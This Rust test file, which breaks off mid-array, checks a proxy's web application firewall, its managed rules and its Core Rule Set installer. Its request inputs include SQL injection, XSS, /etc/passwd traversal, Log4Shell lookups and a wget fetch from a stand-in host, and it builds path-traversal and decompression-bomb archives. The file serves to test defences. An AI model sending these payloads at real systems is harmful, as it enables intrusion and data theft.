//! Managed rules: what they refuse, record and let through, and the installing of the Core Rule Set.

use std::path::{Path, PathBuf};

use anyhow::{Context as _, bail, ensure};
use archipel_testkit::client::RawClient;
use archipel_testkit::origin::{Act, ScriptedOrigin};
use archipel_testkit::wire::Target;

use sha2::{Digest as _, Sha256};

use crate::Outcome;
use crate::site::{BINARY, HOST, Node, Site, command};

crate::tests![
    managed_rules_refuse_in_block_mode_only,
    managed_rules_see_bodies_and_lose_nothing_of_them,
    managed_rules_refuse_bodies_longer_than_they_look_at,
    builtin_rules_take_long_bodies_for_what_they_are,
    managed_exclusions_are_as_narrow_as_they_say,
    managed_rules_look_at_replies_before_they_are_stored,
    managed_rules_look_at_what_the_background_fetches,
    managed_replies_that_nothing_judged_are_not_stored,
    managed_304s_that_nothing_judged_change_nothing,
    managed_sampling_stores_only_what_was_judged,
    managed_findings_of_a_hit_are_recorded,
    managed_rules_that_do_not_load_are_refused,
    managed_events_become_suggestions,
    managed_suggestions_load_and_stop_what_they_are_made_of,
    builtin_rules_refuse_attacks_and_let_people_in,
    crs_install_takes_only_what_is_right,
    crs_install_over_the_network,
    crs_install_refuses_hostile_archives,
];

/// Rules of a test's own: what they find is decided here and not by a rule set that others keep.
const RULES: &str = r#"
SecRule ARGS "@contains attack" "id:1001,phase:2,deny,status:403,t:none,t:lowercase,msg:'a test attack',tag:'test',severity:CRITICAL"
SecRule REQUEST_HEADERS:User-Agent "@streq scanner" "id:1002,phase:1,deny,status:406,t:none,msg:'a test scanner'"
SecRule RESPONSE_BODY "@contains secret" "id:1003,phase:4,deny,status:500,t:none,msg:'a test leak'"
"#;

async fn node(label: &str, origin: &ScriptedOrigin, managed: &[&str]) -> anyhow::Result<Node> {
    let site = Site::new(label, &[])?;
    site.folder.write("rules.conf", RULES)?;
    let mut lines = vec!["firewall.managed.rules = []", "firewall.managed.after_file = \"$DIR/rules.conf\""];
    lines.extend(managed);
    site.plain_zone("site", HOST, origin.address(), &lines)?;
    let (edge, world) = site.start().await?;
    Ok(Node { site, edge, world })
}

async fn origin() -> anyhow::Result<ScriptedOrigin> {
    let origin = ScriptedOrigin::start().await?;
    for path in ["/", "/wiki/a", "/?q=attack", "/?q=Attack", "/?x=attack", "/wiki/a?q=attack", "/?q=peace", "/post"] {
        origin.on(path, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
    }
    Ok(origin)
}

async fn status(node: &Node, path: &str) -> anyhow::Result<u16> {
    node.client().await?.get(HOST, path).await?.head.status()
}

async fn post(node: &Node, fields: &str, body: &str) -> anyhow::Result<u16> {
    let length = body.len();
    let request = format!("POST /post HTTP/1.1\r\nHost: {HOST}\r\n{fields}Content-Length: {length}\r\n\r\n{body}");
    node.client().await?.ask(&request).await?.head.status()
}

async fn managed_rules_refuse_in_block_mode_only() -> Outcome {
    let origin = origin().await?;
    for (mode, expected) in [("block", 403), ("log", 200), ("off", 200)] {
        let node = node("managed", &origin, &[&format!("firewall.managed.mode = \"{mode}\"")]).await?;
        ensure!(status(&node, "/?q=peace").await? == 200, "{mode}: what no rule finds");
        let before = origin.requests().len();
        ensure!(status(&node, "/?q=Attack").await? == expected, "{mode}");
        let asked = origin.requests().len() > before;
        ensure!(asked == (expected == 200), "{mode}: the origin hears of what is let through only");
        let events = events(&node).await?;
        ensure!(events.contains("1001") == (mode != "off"), "{mode}: {events}");
        ensure!(mode == "off" || events.contains("a test attack") && events.contains("ARGS:q"), "{mode}: {events}");
        node.stop().await?;
    }
    Ok(())
}

/// The firewall's events, as JSON.
pub async fn events(node: &Node) -> anyhow::Result<String> {
    let dir = node.site.dir().display().to_string();
    let (status, out, err) =
        archipel_testkit::edge::run(Path::new(BINARY), &["firewall", "events", "--config", &dir, "--json"]).await?;
    ensure!(status.success(), "{out}{err}");
    Ok(out)
}

async fn metrics(node: &Node) -> anyhow::Result<String> {
    let admin = node.edge.at.admin.context("no admin listener")?;
    let page = RawClient::connect(&Target::plain(admin)).await?.get("localhost", "/metrics").await?;
    Ok(String::from_utf8(page.body)?)
}

async fn managed_rules_see_bodies_and_lose_nothing_of_them() -> Outcome {
    let origin = origin().await?;
    let bodies = "firewall.managed.request_body_bytes_max = \"1KiB\"";
    let node = node("managed-bodies", &origin, &["firewall.managed.mode = \"block\"", bodies]).await?;
    const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
    const JSON: &str = "Content-Type: application/json\r\n";
    const PARTS: &str = "Content-Type: multipart/form-data; boundary=b\r\n";
    let part = |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--b--\r\n");
    ensure!(post(&node, FORM, "q=an+attack").await? == 403, "a form");
    ensure!(post(&node, JSON, "{\"q\": [\"at\\u0074ack\"]}").await? == 403, "JSON");
    ensure!(post(&node, PARTS, &part("attack")).await? == 403, "multipart");
    ensure!(origin.requests().is_empty(), "the origin hears nothing of them");
    // Longer than what is looked at, and larger than what one read brings.
    let long = format!("q=peace&rest={}", "x".repeat(300_000));
    ensure!(post(&node, FORM, &long).await? == 200, "a long form");
    let received = origin.requests();
    let body = &received.first().context("a request")?.message.body;
    ensure!(body[..] == *long.as_bytes(), "{} of {} bytes came through", body.len(), long.len());
    node.stop().await
}

async fn managed_rules_refuse_bodies_longer_than_they_look_at() -> Outcome {
    let origin = origin().await?;
    let lines = [
        "firewall.managed.mode = \"block\"",
        "firewall.managed.request_body_bytes_max = \"1KiB\"",
        "firewall.managed.longer_bodies = \"refuse\"",
    ];
    let node = node("managed-long", &origin, &lines).await?;
    ensure!(post(&node, "", &"x".repeat(1_024)).await? == 200, "as long as allowed");
    ensure!(post(&node, "", &"x".repeat(1_025)).await? == 413, "longer");
    let chunked =
        format!("POST /post HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\nzz\r\n");
    ensure!(node.client().await?.ask(&chunked).await?.head.status()? == 400, "a body that breaks off");
    ensure!(origin.requests().len() == 1, "the origin hears of the first alone");
    node.stop().await
}

/// A body is cut where no more of it is looked at: that makes it no malformed one.
async fn builtin_rules_take_long_bodies_for_what_they_are() -> Outcome {
    let origin = origin().await?;
    let lines = ["firewall.managed.mode = \"block\""];
    let node = Node::start("builtin-long", origin.address(), &[], &lines).await?;
    let agent = "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
    let fields = |content_type: &str| format!("{agent}Content-Type: {content_type}\r\n");
    let text = "some text ".repeat(30_000);
    let part = |name: &str, value: &str| format!("--b\r\nContent-Disposition: form-data; {name}\r\n\r\n{value}\r\n");
    let form = "application/x-www-form-urlencoded";
    for (value, expected) in [("peace", 200), ("<script>alert(1)</script>", 403)] {
        let multipart = format!("{}{}--b--\r\n", part("name=a", value), part("name=f; filename=a.txt", &text));
        for (content_type, body) in [
            ("application/json", format!("{{\"a\": \"{value}\", \"b\": [\"{text}\"]}}")),
            ("text/xml", format!("<a><b c=\"{}\">{text}</b></a>", value.replace('<', "&lt;"))),
            ("multipart/form-data; boundary=b", multipart),
            (form, format!("a={value}&b={}", "x".repeat(300_000))),
        ] {
            let found = post(&node, &fields(content_type), &body).await?;
            ensure!(found == expected, "{content_type} with {value}: {found}");
        }
    }
    let many: String = (0..1_500).map(|n| format!("field{n}={n}&")).collect();
    ensure!(post(&node, &fields(form), &many).await? == 200, "a form of many fields");
    let page = metrics(&node).await?;
    for (limit, times) in [("bytes_max", 8), ("arguments_max", 1)] {
        let line = format!("archipel_managed_left_out_total{{reason=\"{limit}\"}} {times}");
        ensure!(page.contains(&line), "no {line}");
    }
    let refuse = "firewall.managed.longer_bodies = \"refuse\"";
    node.site.plain_zone("site", HOST, origin.address(), &[lines[0], refuse])?;
    let (ok, said) = node.command(&["reload"]).await?;
    ensure!(ok, "{said}");
    ensure!(post(&node, &fields(form), &many).await? == 413, "where the operator wants all to be looked at");
    node.stop().await
}

async fn managed_exclusions_are_as_narrow_as_they_say() -> Outcome {
    let origin = origin().await?;
    let exclusion = "[[firewall.managed.exclusions]]\nrules = [\"1000-1001\"]\npath = \"/wiki/*\"\ntarget = \"ARGS:q\"";
    let node = node("managed-exclusions", &origin, &["firewall.managed.mode = \"block\"", exclusion]).await?;
    ensure!(status(&node, "/wiki/a?q=attack").await? == 200, "what is excluded");
    ensure!(status(&node, "/?q=attack").await? == 403, "another path");
    ensure!(status(&node, "/wiki/a?x=attack").await? == 403, "another parameter");
    node.stop().await
}

async fn managed_rules_look_at_replies_before_they_are_stored() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let fields = "Cache-Control: max-age=60\r\nContent-Type: text/html\r\n";
    origin.on("/leak", vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
    origin.on("/good", vec![Act::reply("200 OK", fields, &"<p>fine</p>".repeat(10_000))]);
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true"];
    let node = node("managed-replies", &origin, &lines).await?;
    for _ in 0..2 {
        let reply = node.client().await?.get(HOST, "/leak").await?;
        ensure!(
            reply.head.status()? == 500 && !String::from_utf8_lossy(&reply.body).contains("secret"),
            "{}",
            reply.head.status()?
        );
    }
    for _ in 0..2 {
        let reply = node.client().await?.get(HOST, "/good").await?;
        ensure!(
            reply.head.status()? == 200 && reply.body.len() == 110_000,
            "{} {}",
            reply.head.status()?,
            reply.body.len()
        );
    }
    let asked = |path: &str| origin.requests().iter().filter(|r| r.message.head.target() == path).count();
    ensure!((asked("/leak"), asked("/good")) == (2, 1), "what is refused is not stored, what is not is");
    node.stop().await
}

/// Waits until a rule has left an event: each look asks the node.
async fn event_of(node: &Node, rule: &str) -> Outcome {
    for _ in 0..500 {
        if events(node).await?.contains(rule) {
            return Ok(());
        }
        tokio::task::yield_now().await;
    }
    bail!("no event of rule {rule}: {}", events(node).await?)
}

async fn managed_rules_look_at_what_the_background_fetches() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let fields = "Cache-Control: max-age=0, stale-while-revalidate=600\r\nContent-Type: text/html\r\n";
    origin.on("/turns", vec![Act::reply("200 OK", fields, "<p>fine</p>")]);
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true"];
    let node = node("managed-background", &origin, &lines).await?;
    let body = async || anyhow::Ok(String::from_utf8(node.client().await?.get(HOST, "/turns").await?.body)?);
    ensure!(body().await? == "<p>fine</p>", "as fetched");
    origin.on("/turns", vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
    ensure!(body().await? == "<p>fine</p>", "stale, and revalidated behind it");
    event_of(&node, "1003").await?;
    ensure!(body().await? == "<p>fine</p>", "what the rules refuse was not stored");
    node.stop().await
}

/// What makes the managed rules pass a request by, as a field of the request.
const PASSES: &str = r#"
[[firewall.rules]]
expression = 'any(http.request.headers["x-pass"][*] eq "skip")'
action = "skip"
skip = ["managed"]

[[settings_rules]]
expression = 'any(http.request.headers["x-pass"][*] eq "off")'
firewall_mode = "off"

[[settings_rules]]
expression = 'any(http.request.headers["x-pass"][*] eq "log")'
firewall_mode = "log"
"#;

async fn managed_replies_that_nothing_judged_are_not_stored() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let fields = "Cache-Control: max-age=600\r\nContent-Type: text/html\r\n";
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true", PASSES];
    let node = node("managed-unjudged", &origin, &lines).await?;
    let get = async |path: &str, pass: &str| {
        let request = format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\nX-Pass: {pass}\r\n\r\n");
        node.client().await?.ask(&request).await?.head.status()
    };
    for (pass, reason) in [("skip", "managed_skipped"), ("off", "managed_off"), ("log", "managed_refused")] {
        let path = format!("/leak-{pass}");
        origin.on(&path, vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
        ensure!(get(&path, pass).await? == 200, "{pass}: for its own visitor");
        ensure!(get(&path, "no").await? == 500, "{pass}: but not for the next one");
        let page = metrics(&node).await?;
        let line = format!("archipel_not_stored_total{{reason=\"{reason}\"}} 1");
        ensure!(page.contains(&line), "no {line}");
        // A part is stored, too, where it may be.
        let part = format!("{fields}ETag: \"a\"\r\nContent-Range: bytes 0-5/100\r\n");
        let path = format!("/part-{pass}");
        origin.on(&path, vec![Act::reply("206 Partial Content", &part, "secret")]);
        let ask = async |pass: &str| {
            let range = "Range: bytes=0-5";
            let request = format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\nX-Pass: {pass}\r\n{range}\r\n\r\n");
            node.client().await?.ask(&request).await?.head.status()
        };
        ensure!(ask(pass).await? == 206 && ask("no").await? == 500, "{pass}: a part");
    }
    origin.on("/good", vec![Act::reply("200 OK", fields, "fine")]);
    ensure!(get("/good", "skip").await? == 200 && get("/good", "no").await? == 200, "judged for the second");
    ensure!(get("/good", "skip").await? == 200, "who is passed by gets what is stored");
    let asked = origin.requests().iter().filter(|r| r.message.head.target() == "/good").count();
    ensure!(asked == 2, "asked {asked} times");
    node.stop().await?;

    let allow = "[[firewall.access]]\naction = \"allow\"\nip = [\"127.0.0.0/8\"]";
    let node = self::node("managed-allowed", &origin, &[lines[0], lines[1], allow]).await?;
    origin.on("/leak", vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
    for _ in 0..2 {
        ensure!(status(&node, "/leak").await? == 200, "allowed");
    }
    let asked = origin.requests().iter().filter(|r| r.message.head.target() == "/leak").count();
    ensure!(asked == 2, "asked {asked} times");
    node.stop().await
}

async fn managed_304s_that_nothing_judged_change_nothing() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let fields = "Cache-Control: max-age=0, must-revalidate\r\nETag: \"a\"\r\nContent-Type: text/html\r\n";
    origin.on("/page", vec![Act::reply("200 OK", fields, "page")]);
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true", PASSES];
    let node = node("managed-304", &origin, &lines).await?;
    let get = async |pass: &str| {
        let request = format!("GET /page HTTP/1.1\r\nHost: {HOST}\r\nX-Pass: {pass}\r\n\r\n");
        let reply = node.client().await?.ask(&request).await?;
        ensure!(reply.head.status()? == 200 && reply.body == b"page", "{pass}: {}", reply.head.status()?);
        anyhow::Ok(reply.head.get("x-trace").map(str::to_owned))
    };
    ensure!(get("no").await?.is_none(), "as it came");
    origin.on("/page", vec![Act::reply("304 Not Modified", &format!("{fields}X-Trace: secret\r\n"), "")]);
    ensure!(get("skip").await?.as_deref() == Some("secret"), "confirmed, with the fields that came");
    origin.on("/page", vec![Act::reply("304 Not Modified", fields, "")]);
    ensure!(get("no").await?.is_none(), "for others they never came");
    node.stop().await
}

async fn managed_sampling_stores_only_what_was_judged() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let fields = "Cache-Control: max-age=600\r\nContent-Type: text/html\r\n";
    origin.on("/leak", vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
    let sampling = "firewall.managed.sampling_percent = 50";
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true", sampling];
    let node = node("managed-sampling", &origin, &lines).await?;
    let mut seen = [0, 0];
    for _ in 0..60 {
        match status(&node, "/leak").await? {
            200 => seen[0] += 1,
            500 => seen[1] += 1,
            other => bail!("{other}"),
        }
    }
    ensure!(seen[0] > 0 && seen[1] > 0, "half of sixty: {seen:?}");
    ensure!(origin.requests().len() == 60, "none was answered by the store: {}", origin.requests().len());
    node.stop().await
}

async fn managed_findings_of_a_hit_are_recorded() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    origin.on("/page?odd", vec![Act::reply("200 OK", "Cache-Control: max-age=600\r\n", "page")]);
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true"];
    let node = node("managed-hit", &origin, &lines).await?;
    node.site
        .folder
        .write("rules.conf", "SecRule ARGS_NAMES \"@streq odd\" \"id:1004,phase:2,pass,log,t:none,msg:'odd'\"\n")?;
    let (ok, said) = node.command(&["reload"]).await?;
    ensure!(ok, "{said}");
    for _ in 0..2 {
        ensure!(status(&node, "/page?odd").await? == 200, "let in");
    }
    ensure!(origin.requests().len() == 1, "the second was a hit");
    let events = events(&node).await?;
    ensure!(events.matches("\"1004\"").count() == 2, "one event for each request: {events}");
    node.stop().await
}

async fn managed_rules_that_do_not_load_are_refused() -> Outcome {
    let origin = origin().await?;
    let node = node("managed-broken", &origin, &["firewall.managed.mode = \"block\""]).await?;
    node.site.folder.write("rules.conf", "SecRule ARGS \"@contains a\" \"id:5,phase:2,deny\"\nSecNonsense On\n")?;
    let (ok, said) = node.command(&["reload"]).await?;
    ensure!(!ok && said.contains("rules.conf:2") && said.contains("SecNonsense"), "{said}");
    ensure!(status(&node, "/?q=attack").await? == 403, "the rules before are in force");
    let (ok, said) = command(&node.site, &["check"]).await?;
    ensure!(!ok && said.contains("rules.conf:2"), "check: {said}");
    node.stop().await
}

async fn managed_events_become_suggestions() -> Outcome {
    let origin = origin().await?;
    let node = node("managed-suggest", &origin, &["firewall.managed.mode = \"log\""]).await?;
    let suggest = async |more: &[&str]| {
        let dir = node.site.dir().display().to_string();
        let arguments = [&["firewall", "suggest", "--config", &dir], more].concat();
        let (status, out, err) = archipel_testkit::edge::run(Path::new(BINARY), &arguments).await?;
        ensure!(status.success(), "{out}{err}");
        anyhow::Ok(out)
    };
    status(&node, "/wiki/a?q=attack").await?;
    let said = suggest(&[]).await?;
    ensure!(!said.contains("[[firewall"), "one visitor is not many: {said}");
    let said = suggest(&["--visitors-min", "1"]).await?;
    for part in ["zones/site.toml", "rules = [\"1001\"]", "path = \"/wiki/a\"", "target = \"ARGS:q\""] {
        ensure!(said.contains(part), "no {part} in:\n{said}");
    }
    // What is suggested can be pasted.
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.rules = []"];
    let rules = ["firewall.managed.after_file = \"$DIR/rules.conf\"", &said];
    node.site.plain_zone("site", HOST, origin.address(), &[&lines[..], &rules[..]].concat())?;
    let (ok, said) = node.command(&["reload"]).await?;
    ensure!(ok, "{said}");
    ensure!(status(&node, "/wiki/a?q=attack").await? == 200 && status(&node, "/?q=attack").await? == 403, "after it");
    node.stop().await
}

/// What people might send to a site where it is no attack, each to a path of its own: the request line without the version, fields, body.
fn mistakes() -> Vec<(String, String, String)> {
    const SCRIPT: &str = "%3Cscript%3Ealert(1)%3C/script%3E";
    // <script>alert(document.domain)</script>
    const ENCODED: &str = "PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ";
    let all = "1'+union+select+password+from+users--+%26%26+cat+/etc/passwd;wget+http://h.example/x+%3Cscript%3Ealert(1)%3C/script%3E\
               ../../../etc/passwd+$%7Bjndi:ldap://h.example/a%7D+%7B%7B7*7%7D%7D+%3C?php+system('id')+?%3E+;waitfor+delay+'0:0:9'";
    let many: Vec<String> = (0..20).map(|n| format!("p{n}={SCRIPT}")).collect();
    let part =
        "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Transfer-Encoding: base64\r\n\r\nQQ==\r\n--b--\r\n";
    let json = "Content-Type: application/json\r\n";
    [
        ("GET /sql?name=1%27%20OR%20%277%27%3D%277".to_owned(), "", ""),
        (format!("GET /base64?state={ENCODED}"), "", ""),
        ("GET /cookie".to_owned(), "Cookie: state=PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ\r\n", ""),
        (format!("GET /{ENCODED}"), "", ""),
        (format!("GET /all?text={all}"), "", ""),
        (format!("GET /many?{}", many.join("&")), "", ""),
        (format!("GET /two?a={SCRIPT}&b={SCRIPT}"), "", ""),
        (format!("GET /slashes?/(/={SCRIPT}"), "", ""),
        (format!("GET /a%20b+(c):*/d?q={SCRIPT}"), "", ""),
        (format!("GET /{}%20{}?q={SCRIPT}", "x".repeat(253), "y".repeat(40)), "", ""),
        ("GET /agent".to_owned(), "User-Agent: sqlmap/1.8\r\n", ""),
        ("GET /field".to_owned(), "X-Version: ${jndi:ldap://h.example/a}\r\n", ""),
        ("POST /text".to_owned(), "Content-Type: text/plain\r\n", "<script>alert(1)</script>"),
        ("POST /json".to_owned(), json, "{\"a\": {\"b\": [\"<script>alert(1)</script>\"]}}"),
        ("POST /name".to_owned(), json, "{\"a b, c\": \"<script>alert(1)</script>\"}"),
        (
            "POST /xml".to_owned(),
            "Content-Type: text/xml\r\n",
            "<a b=\"&lt;script>alert(1)&lt;/script>\">1' or '7'='7</a>",
        ),
        ("POST /coded".to_owned(), "Content-Encoding: gzip\r\n", "\u{1f}"),
        ("POST /charset".to_owned(), "Content-Type: text/plain; charset=utf-16\r\n", "text"),
        ("POST /parts".to_owned(), "Content-Type: multipart/form-data; boundary=b\r\n", part),
    ]
    .map(|(line, fields, body)| (line, fields.to_owned(), body.to_owned()))
    .into()
}

async fn managed_suggestions_load_and_stop_what_they_are_made_of() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    let node = Node::start("suggestions", origin.address(), &[], &["firewall.managed.mode = \"log\""]).await?;
    let ask = async |(line, fields, body): &(String, String, String)| {
        let target = line.split(' ').nth(1).unwrap_or_default();
        origin.on(target, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
        let agent = if fields.contains("User-Agent") { "" } else { "User-Agent: Mozilla/5.0\r\n" };
        let length = body.len();
        let request =
            format!("{line} HTTP/1.1\r\nHost: {HOST}\r\n{agent}{fields}Content-Length: {length}\r\n\r\n{body}");
        anyhow::Ok(node.client().await?.ask(&request).await?.head.status()?)
    };
    for mistake in mistakes() {
        let found = ask(&mistake).await?;
        ensure!(found == 200, "{}: {found} in log mode", mistake.0);
    }
    let dir = node.site.dir().display().to_string();
    let arguments = ["firewall", "suggest", "--config", &dir, "--visitors-min", "1"];
    let (status, said, err) = archipel_testkit::edge::run(Path::new(BINARY), &arguments).await?;
    ensure!(status.success(), "{said}{err}");
    let block = "firewall.managed.mode = \"block\"";
    node.site.plain_zone("site", HOST, origin.address(), &[block])?;
    let (ok, text) = node.command(&["reload"]).await?;
    ensure!(ok, "{text}");
    for mistake in mistakes() {
        let found = ask(&mistake).await?;
        ensure!(found == 403, "{}: {found} without exclusions", mistake.0);
    }
    node.site.plain_zone("site", HOST, origin.address(), &[block, &said])?;
    let (ok, text) = node.command(&["reload"]).await?;
    ensure!(ok, "{text}\n{said}");
    for (at, mistake) in mistakes().into_iter().enumerate() {
        let found = ask(&mistake).await?;
        ensure!(found == 200, "{}: {found} with\n{said}", mistake.0);
        // What is excluded is excluded there alone.
        let (line, fields, body) = mistake;
        let elsewhere = line.replacen(" /", &format!(" /elsewhere-{at}/"), 1);
        if !line.contains("/PHNj") {
            let found = ask(&(elsewhere.clone(), fields, body)).await?;
            ensure!(found == 403, "{elsewhere}: {found} with\n{said}");
        }
    }
    ensure!(!said.contains("path = \"/*\""), "{said}");
    node.stop().await
}

async fn builtin_rules_refuse_attacks_and_let_people_in() -> Outcome {
    let origin = ScriptedOrigin::start().await?;
    for path in ["/", "/search?q=select+a+union+rep", "/a?id=1"] {
        origin.on(path, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
    }
    let node = Node::start("builtin", origin.address(), &[], &["firewall.managed.mode = \"block\""]).await?;
    let agent = "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
    let ask = async |path: &str| {
        let request = format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n{agent}\r\n");
        anyhow::Ok(node.client().await?.ask(&request).await?.head.status()?)
    };
    for path in ["/", "/search?q=select+a+union+rep", "/a?id=1"] {
        ensure!(ask(path).await? == 200, "{path}");
    }
    for path in [
        "/a?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/a?file=../../../../etc/passwd",
        "/a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D",
        "/a?cmd=;cat%20/etc/passwd",
    ] {
        ensure!(ask(path).await? == 403, "{path}");
    }
    node.stop().await
}

/// A release archive with these files below its top folder.
fn archive(files: &[(&str, &str)]) -> anyhow::Result<Vec<u8>> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (path, text) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, format!("coreruleset/{path}"), text.as_bytes())?;
    }
    Ok(builder.into_inner()?.finish()?)
}

fn release(version: &str, word: &str) -> anyhow::Result<Vec<u8>> {
    let setup = format!("SecComponentSignature \"OWASP_CRS/{version}\"\n");
    let rules = format!("SecRule ARGS \"@pmFromFile words.data\" \"id:100001,phase:2,deny,status:403,msg:'{word}'\"\n");
    archive(&[("crs-setup.conf.example", &setup), ("rules/A.conf", &rules), ("rules/words.data", word)])
}

async fn crs(site: &Site, arguments: &[&str]) -> anyhow::Result<(bool, String)> {
    let dir = site.dir().display().to_string();
    let all = [&["crs"], arguments, &["--config", &dir]].concat();
    let (status, out, err) = archipel_testkit::edge::run(Path::new(BINARY), &all).await?;
    Ok((status.success(), format!("{out}{err}")))
}

fn write(site: &Site, name: &str, bytes: &[u8]) -> anyhow::Result<String> {
    Ok(site.folder.write(name, bytes)?.display().to_string())
}

async fn crs_install_takes_only_what_is_right() -> Outcome {
    let origin = origin().await?;
    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.rules = [\"crs\"]"];
    let site = Site::new("crs", &["firewall.crs_dir = \"$DIR/none\""])?;
    site.plain_zone("site", HOST, origin.address(), &lines)?;
    let (ok, said) = command(&site, &["check"]).await?;
    ensure!(!ok && said.contains("no folder of the OWASP Core Rule Set"), "{said}");

    site.node(&[])?;
    let one = write(&site, "one.tar.gz", &release("4.1.0", "attack")?)?;
    let (ok, said) = crs(&site, &["install", &one, "--sha256", &"0".repeat(64)]).await?;
    ensure!(!ok && said.contains("has the checksum") && said.contains("nothing was installed"), "{said}");
    let (ok, said) = crs(&site, &["install", &one]).await?;
    ensure!(ok && said.contains("CRS 4.1.0") && said.contains("archipel reload"), "{said}");
    let (edge, world) = site.start().await?;
    let node = Node { site, edge, world };
    ensure!(status(&node, "/?q=attack").await? == 403 && status(&node, "/?q=peace").await? == 200, "the first");

    let bad = archive(&[("crs-setup.conf.example", ""), ("rules/A.conf", "SecRule ARGS \"@nonsense x\" \"id:1\"\n")])?;
    let bad = write(&node.site, "bad.tar.gz", &bad)?;
    let (ok, said) = crs(&node.site, &["install", &bad]).await?;
    ensure!(!ok && said.contains("A.conf:1") && said.contains("nonsense"), "{said}");

    let two = write(&node.site, "two.tar.gz", &release("4.2.0", "peace")?)?;
    ensure!(crs(&node.site, &["install", &two]).await?.0, "the second");
    ensure!(node.command(&["reload"]).await?.0, "reload");
    ensure!(status(&node, "/?q=attack").await? == 200 && status(&node, "/?q=peace").await? == 403, "the second");
    let (_, listed) = crs(&node.site, &["list"]).await?;
    let line = |version: &str| listed.lines().find(|line| line.starts_with(version)).unwrap_or_default().to_owned();
    ensure!(line("4.2.0").ends_with("in use") && line("4.1.0").ends_with("before"), "{listed}");
    ensure!(crs(&node.site, &["rollback"]).await?.0 && node.command(&["reload"]).await?.0, "rollback");
    ensure!(status(&node, "/?q=attack").await? == 403 && status(&node, "/?q=peace").await? == 200, "the first again");
    node.stop().await
}

async fn crs_install_over_the_network() -> Outcome {
    let server = ScriptedOrigin::start().await?;
    let archive = release("4.3.0", "attack")?;
    let sum: String = Sha256::digest(&archive).iter().map(|byte| format!("{byte:02x}")).collect();
    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", archive.len());
    server.on("/real.tar.gz?signed=1", vec![Act::send(head), Act::send(&archive)]);
    server.on("/crs.tar.gz", vec![Act::reply("302 Found", "Location: /real.tar.gz?signed=1\r\n", "")]);
    server.on("/loop", vec![Act::reply("302 Found", "Location: /loop\r\n", "")]);
    let site = Site::new("crs-url", &[])?;
    let url = |path: &str| format!("http://{}{path}", server.address());
    let (ok, said) = crs(&site, &["install", &url("/crs.tar.gz")]).await?;
    ensure!(!ok && said.contains("--sha256"), "without a checksum: {said}");
    let (ok, said) = crs(&site, &["install", &url("/crs.tar.gz"), "--sha256", &sum]).await?;
    ensure!(ok && said.contains("CRS 4.3.0"), "{said}");
    let (ok, said) = crs(&site, &["install", &url("/loop"), "--sha256", &sum]).await?;
    ensure!(!ok && said.contains("redirects"), "{said}");
    let (ok, said) = crs(&site, &["install", &url("/none"), "--sha256", &sum]).await?;
    ensure!(!ok && said.contains("404"), "{said}");
    Ok(())
}

async fn crs_install_refuses_hostile_archives() -> Outcome {
    let site = Site::new("crs-hostile", &[])?;
    let raw = |name: &str, kind: tar::EntryType, link: Option<&str>| -> anyhow::Result<Vec<u8>> {
        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
        let mut header = tar::Header::new_ustar();
        // Written as it is: the library itself refuses such names.
        let place = &mut header.as_ustar_mut().context("ustar")?.name;
        place[..name.len()].copy_from_slice(name.as_bytes());
        header.set_entry_type(kind);
        header.set_size(if link.is_some() { 0 } else { 4 });
        if let Some(link) = link {
            header.set_link_name(link)?;
        }
        header.set_cksum();
        builder.append(&header, &b"evil"[..if link.is_some() { 0 } else { 4 }])?;
        Ok(builder.into_inner()?.finish()?)
    };
    let mut bomb = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    let mut header = tar::Header::new_ustar();
    header.set_size(300 << 20);
    bomb.append_data(&mut header, "coreruleset/rules/A.conf", std::io::repeat(b'#').take_bytes(300 << 20))?;
    let mut half = release("4.1.0", "x")?;
    half.truncate(half.len() / 2);
    for (what, bytes, said_part) in [
        ("up", raw("coreruleset/../../../evil", tar::EntryType::Regular, None)?, "leads out of the archive"),
        ("root", raw("/coreruleset/evil", tar::EntryType::Regular, None)?, "leads out of the archive"),
